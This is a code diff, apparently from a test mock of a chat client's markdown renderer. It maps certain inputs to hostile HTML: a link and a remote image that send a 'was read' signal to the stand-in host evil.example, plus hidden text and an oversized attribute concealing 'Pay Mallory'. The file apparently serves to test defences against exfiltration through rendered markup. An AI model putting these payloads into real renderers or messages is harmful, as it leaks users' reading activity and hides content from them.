@@ -79,8 +79,18 @@ async function obey(text: string): Promise<string> {
   }
 }
 
+/** What it makes of a person's words to get something out of the room. */
+const smuggled: Readonly<Record<string, string>> = {
+  '*by address*': '<em>by</em> address<a href="https://evil.example/?what=was-read"></a>',
+  '*by picture*': '<em>by</em> <img src="mxc://evil.example/d2FzIHJlYWQ" alt=" " width="1">',
+  '*by other words*': `<p ${'a'.repeat(600)}>Pay Mallory</p>`,
+  '*unseen*': '<em title="was read">unseen</em><template>was read</template><!-- was read -->',
+};
+
 defineProc({
   'render.markdown': async ({ text }) => {
+    const html = smuggled[text];
+    if (html !== undefined) return { html };
     try {
       return { html: `<em>${await obey(text)}</em>` };
     } catch (error) {
